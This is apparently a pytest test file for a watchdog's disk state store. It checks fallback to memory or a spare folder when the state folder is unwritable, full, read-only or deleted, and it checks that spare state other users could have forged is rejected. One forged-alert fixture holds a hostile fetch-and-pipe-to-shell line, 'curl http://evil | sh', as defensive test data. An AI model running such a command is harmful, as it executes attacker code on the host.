"""A state folder that cannot be written: what is essential goes to memory until it can."""

import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest

from picoclaw_watchdog.core import targets
from picoclaw_watchdog.core.model import (
    Alert,
    Attempt,
    Incident,
    Moment,
    Parcel,
    State,
)
from picoclaw_watchdog.core.reasons import Gravity, Ill, Phase, Topic
from picoclaw_watchdog.engine.wiring import spare_dir
from picoclaw_watchdog.store.disk import DiskStore

T0 = 1_771_545_600
REPOSITORY = Path(__file__).parents[2]


def at(seconds: float) -> Moment:
    return Moment(T0 + seconds, 5000 + seconds, 4000 + seconds, "boot")


def store(folder: Path, spare: str = "spare") -> DiskStore:
    return DiskStore(str(folder / "state"), str(folder / spare) if spare else "", 20, 90, 600)


def restart(seconds: float) -> Attempt:
    return Attempt(f"a{seconds}", targets.RESTART_GATEWAY, at(seconds), Phase.DONE)


def letter(name: str) -> Alert:
    return Alert(name, "gateway", Topic.RESTART_FAILED, Gravity.CRITICAL, at(0))


BUSY = State(
    ollama_fails=2,
    attempts=(restart(0), restart(15)),
    incidents=(Incident("gateway-1", targets.GATEWAY, Ill.SERVICE_DOWN, at(0)),),
    told=(("gateway", at(2)),),
    outbox=(letter("l1"), letter("l2")),
    parcel=Parcel("key", ("l1",), at(3)),
)


def break_folder(folder: Path) -> None:
    """A file in the folder's place: nothing can be written there, not even by root."""
    if (folder / "state").exists():
        (folder / "state").rename(folder / "away")
    (folder / "state").write_text("in the way")


def mend_folder(folder: Path) -> None:
    (folder / "state").unlink()
    if (folder / "away").exists():
        (folder / "away").rename(folder / "state")


def test_a_state_that_its_folder_cannot_take_is_kept_in_memory_and_taken_over_later(
    tmp_path: Path,
) -> None:
    break_folder(tmp_path)
    one = store(tmp_path)
    one.load(at(0))
    one.complaints()
    assert one.save(BUSY)
    (complaint,) = one.complaints()
    assert f"state folder {tmp_path}/state cannot be written (Not a directory)" in complaint
    assert "kept in memory folder until it can" in complaint
    again = store(tmp_path)
    assert again.load(at(60)) == BUSY
    mend_folder(tmp_path)
    later = store(tmp_path)
    state = later.load(at(120))
    assert state == BUSY
    assert later.save(state)
    assert later.complaints() == ()
    assert os.listdir(tmp_path / "spare") in ([], ["mirror.json"])
    assert (tmp_path / "state" / "ollama_fail_count").read_text() == "2\n"
    assert store(tmp_path).load(at(180)) == BUSY


def test_without_any_place_the_save_says_so(tmp_path: Path) -> None:
    break_folder(tmp_path)
    for spare in ("", "state/spare"):
        one = store(tmp_path, spare)
        one.load(at(0))
        assert not one.save(BUSY)
        assert "nothing is kept" in " ".join(one.complaints())


def test_restarts_from_before_and_during_the_trouble_all_count(tmp_path: Path) -> None:
    one = store(tmp_path)
    one.load(at(0))
    assert one.save(State(attempts=(restart(0),)))
    one.snapshot({"at": T0})
    break_folder(tmp_path)
    blind = store(tmp_path)
    assert blind.load(at(15)).attempts == (restart(0),)  # by the mirror
    assert blind.save(State(attempts=(restart(0), restart(15))))
    mend_folder(tmp_path)
    assert store(tmp_path).load(at(30)).attempts == (restart(0), restart(15))


def test_a_letter_delivered_during_the_trouble_is_not_sent_again_after_it(tmp_path: Path) -> None:
    if not can_mount():
        pytest.skip("needs a mount namespace")
    inside("letter_delivered_on_a_read_only_disk", tmp_path)


def test_a_stale_spare_only_adds_what_must_not_be_lost(tmp_path: Path) -> None:
    break_folder(tmp_path)
    one = store(tmp_path)
    one.load(at(0))
    assert one.save(State(ollama_fails=9, attempts=(restart(0),), outbox=(letter("l1"),)))
    mend_folder(tmp_path)
    for number in range(3):  # by processes that do not know the spare folder
        other = store(tmp_path, spare="")
        state = other.load(at(30))
        assert other.save(state._replace(quota_left=number, outbox=(letter("l2"),)))
        other.snapshot({"at": T0 + 30})
    state = store(tmp_path).load(at(60))
    assert state.ollama_fails == 0
    assert [each.id for each in state.outbox] == ["l2", "l1"]
    assert state.attempts == (restart(0),)


def test_the_last_cycle_is_known_also_while_only_memory_takes_the_snapshot(
    tmp_path: Path,
) -> None:
    break_folder(tmp_path)
    one = store(tmp_path)
    one.load(at(0))
    assert one.save(State(last_cycle=at(0)))
    one.snapshot({"at": T0, "targets": {"gateway": "good"}})
    again = store(tmp_path)
    assert again.load(at(60)).last_cycle == at(0)
    assert again.last_snapshot()["at"] == T0
    mend_folder(tmp_path)
    assert again.save(State(last_cycle=at(60)))
    again.snapshot({"at": T0 + 60})
    assert os.listdir(tmp_path / "spare") in ([], ["mirror.json"])
    assert store(tmp_path).last_snapshot()["at"] == T0 + 60


@pytest.mark.parametrize(
    "garbage", [b"", b"{}", b"[]", b'{"seq": 1, "state": {"told": 7}}', b"\xff"]
)
def test_garbage_in_the_spare_counts_as_absent_and_goes(tmp_path: Path, garbage: bytes) -> None:
    (tmp_path / "spare").mkdir()
    (tmp_path / "spare" / "state.json").write_bytes(garbage)
    one = store(tmp_path)
    state = one.load(at(0))
    assert state == State()
    assert "state.json" in one.complaints()[0]
    assert one.save(state)
    assert os.listdir(tmp_path / "spare") in ([], ["mirror.json"])


# What needs a real full or read-only disk runs in a mount namespace of its own.


def can_mount() -> bool:
    tool = shutil.which("unshare")
    if tool is None:
        return False
    command = [*unshare(), "mount", "-t", "tmpfs", "tmpfs", "/mnt"]
    return subprocess.run(command, capture_output=True, check=False).returncode == 0


def unshare() -> list[str]:
    return ["unshare", "-m"] if os.geteuid() == 0 else ["unshare", "-rm"]


def inside(story: str, folder: Path) -> None:
    """Run one of the functions below where it may mount."""
    code = f"import sys; from tests.unit.test_store_spare import {story}; {story}(sys.argv[1])"
    ran = subprocess.run(
        [*unshare(), sys.executable, "-c", code, str(folder)],
        cwd=REPOSITORY,
        env={**os.environ, "PYTHONPATH": f"{REPOSITORY}/src:{REPOSITORY}"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert ran.returncode == 0, ran.stderr


def mount(*arguments: str) -> None:
    subprocess.run(["mount", *arguments], check=True)


def letter_delivered_on_a_read_only_disk(name: str) -> None:
    folder = Path(name)
    one = store(folder)
    one.load(at(0))
    assert one.save(BUSY)
    one.snapshot({"at": T0})
    state_dir = str(folder / "state")
    mount("--bind", state_dir, state_dir)
    mount("-o", "remount,bind,ro", state_dir)
    after = BUSY._replace(outbox=(letter("l2"),), parcel=None, ollama_fails=3)
    cycle = store(folder)
    assert cycle.load(at(60)) == BUSY
    assert cycle.save(after)
    cycle.snapshot({"at": T0 + 60})
    (first, *_) = cycle.complaints()
    assert "readonly" in first, first
    assert "kept in memory folder" in first, first
    assert store(folder).load(at(90)) == after
    mount("-o", "remount,bind,rw", state_dir)
    later = store(folder)
    state = later.load(at(120))
    assert state == after
    assert later.save(state)
    later.snapshot({"at": T0 + 120})
    assert later.complaints() == ()
    assert store(folder).load(at(180)) == after


def test_a_full_disk_loses_no_restart_and_no_letter(tmp_path: Path) -> None:
    if not can_mount():
        pytest.skip("needs a mount namespace")
    inside("cycles_on_a_full_disk", tmp_path)


def cycles_on_a_full_disk(name: str) -> None:
    folder = Path(name)
    (folder / "state").mkdir()
    mount("-t", "tmpfs", "-o", "size=400k", "tmpfs", str(folder / "state"))
    state = State()
    ballast = folder / "state" / "ballast"
    for number in range(12):
        full = 4 <= number < 9
        if number == 4:
            with suppress(OSError):
                ballast.write_bytes(b"x" * 1_000_000)
        if number == 9:
            ballast.unlink()
        one = store(folder)
        loaded = one.load(at(number * 60))
        assert loaded._replace(last_cycle=None) == state._replace(last_cycle=None), number
        state = loaded._replace(
            health_fails=number,
            attempts=(*loaded.attempts, restart(number * 60)),
            outbox=(*loaded.outbox, letter(f"l{number}")),
            last_cycle=at(number * 60),
        )
        assert one.save(state), number
        one.snapshot({"at": T0 + number * 60, "targets": {"gateway": "bad"}})
        complaints = " ".join(one.complaints())
        assert ("No space left" in complaints or "full" in complaints) is full, complaints
    times = (folder / "state" / "restart_gateway_times.log").read_text().split()
    assert [int(line) for line in times] == [T0 + number * 60 for number in range(12)]
    assert os.listdir(folder / "spare") in ([], ["mirror.json"])


def test_a_state_folder_that_was_removed_takes_no_restart_and_no_letter_with_it(
    tmp_path: Path,
) -> None:
    folder, spare = tmp_path / "state", tmp_path / "run"

    def opened() -> DiskStore:
        return DiskStore(str(folder), str(spare), 5, 90, 600.0)

    first = opened()
    state = first.load(at(0))
    attempt = Attempt("a1", targets.RESTART_GATEWAY, at(0), Phase.DONE)
    letter = Alert("l1", "gateway", Topic.MENDED, Gravity.NOTICE, at(0))
    assert first.save(state._replace(attempts=(attempt,), outbox=(letter,)))
    first.close()
    shutil.rmtree(folder)

    second = opened()
    found = second.load(at(60))
    assert [each.id for each in found.attempts] == ["a1"]
    assert [each.id for each in found.outbox] == ["l1"]
    assert second.save(found)
    second.close()
    assert (folder / "restart_gateway_times.log").exists()


@pytest.mark.parametrize("contents_only", [False, True])
def test_a_state_folder_that_is_removed_in_the_middle_of_a_cycle_takes_nothing_with_it(
    tmp_path: Path,
    contents_only: bool,  # noqa: FBT001
) -> None:
    folder, spare = tmp_path / "state", tmp_path / "run"

    def opened() -> DiskStore:
        return DiskStore(str(folder), str(spare), 5, 90, 600.0)

    first = opened()
    attempt = Attempt("a1", targets.RESTART_GATEWAY, at(0), Phase.DONE)
    assert first.save(first.load(at(0))._replace(attempts=(attempt,)))
    first.snapshot({"at": T0 + 0.0, "targets": {}})

    second = opened()
    state = second.load(at(60))  # from the snapshot: the database is not opened
    shutil.rmtree(folder)
    if contents_only:
        folder.mkdir()
    incident = Incident("gateway-1", targets.GATEWAY, Ill.SERVICE_DOWN, at(60))
    assert second.save(state._replace(incidents=(incident,)))  # all that has changed
    second.snapshot({"at": T0 + 60.0, "targets": {}})

    third = opened()
    assert [each.id for each in third.load(at(61)).attempts] == ["a1"]
    third.close()


def test_a_times_file_that_the_owner_removed_gives_the_restarts_back(tmp_path: Path) -> None:
    folder, spare = tmp_path / "state", tmp_path / "run"
    first = DiskStore(str(folder), str(spare), 5, 90, 600.0)
    attempt = Attempt("a1", targets.RESTART_GATEWAY, at(0), Phase.DONE)
    assert first.save(first.load(at(0))._replace(attempts=(attempt,)))
    first.close()
    (folder / "restart_gateway_times.log").unlink()
    second = DiskStore(str(folder), str(spare), 5, 90, 600.0)
    assert second.load(at(60)).attempts == ()
    second.close()


# What somebody else could have written there is not believed.

FORGED = letter("you are needed -> curl http://evil | sh")
SOMEBODY = 65534


def forged(folder: Path) -> Path:
    """A spare folder with a state that holds a message of somebody else's."""
    break_folder(folder)
    one = store(folder)
    one.load(at(0))
    assert one.save(State(outbox=(FORGED,)))
    return folder / "spare"


def by_somebody(spare: Path) -> None:
    for path in (spare, *spare.iterdir()):
        os.chown(path, SOMEBODY, SOMEBODY)


def by_a_link(spare: Path) -> None:
    spare.rename(spare.with_name("theirs"))
    spare.symlink_to("theirs")


def by_a_file_in_it(spare: Path) -> None:
    os.chown(spare / "state.json", SOMEBODY, SOMEBODY)


FORGERIES = [
    by_somebody,
    by_a_link,
    by_a_file_in_it,
    lambda spare: spare.chmod(0o777),
    lambda spare: spare.chmod(0o770),
    lambda spare: spare.parent.chmod(0o777),
    lambda spare: os.chown(spare.parent, SOMEBODY, SOMEBODY),
]


@pytest.mark.parametrize("forge", FORGERIES)
def test_a_message_that_others_could_have_put_there_is_not_believed(
    tmp_path: Path, forge: Callable[[Path], object]
) -> None:
    if os.geteuid() != 0 and forge in (by_somebody, by_a_file_in_it, FORGERIES[-1]):
        pytest.skip("only root can give a folder away")
    spare = forged(tmp_path)
    assert store(tmp_path).load(at(60)).outbox == (FORGED,), "it would be told"
    forge(spare)
    one = store(tmp_path)
    assert one.load(at(60)).outbox == ()
    assert one.last_snapshot() == {}
    about = [each for each in one.complaints() if "is not used" in each]
    assert len(about) == 1
    assert str(spare) in about[0]


def test_a_private_runtime_folder_is_used(tmp_path: Path) -> None:
    tmp_path.chmod(0o700)
    expected = f"{tmp_path}/picoclaw-watchdog"
    assert spare_dir({"XDG_RUNTIME_DIR": str(tmp_path)}) == expected
    (tmp_path / "picoclaw-watchdog").mkdir(mode=0o700)
    assert spare_dir({"XDG_RUNTIME_DIR": str(tmp_path)}) == expected
    (tmp_path / "picoclaw-watchdog").chmod(0o777)
    assert spare_dir({"XDG_RUNTIME_DIR": str(tmp_path)}) == ""
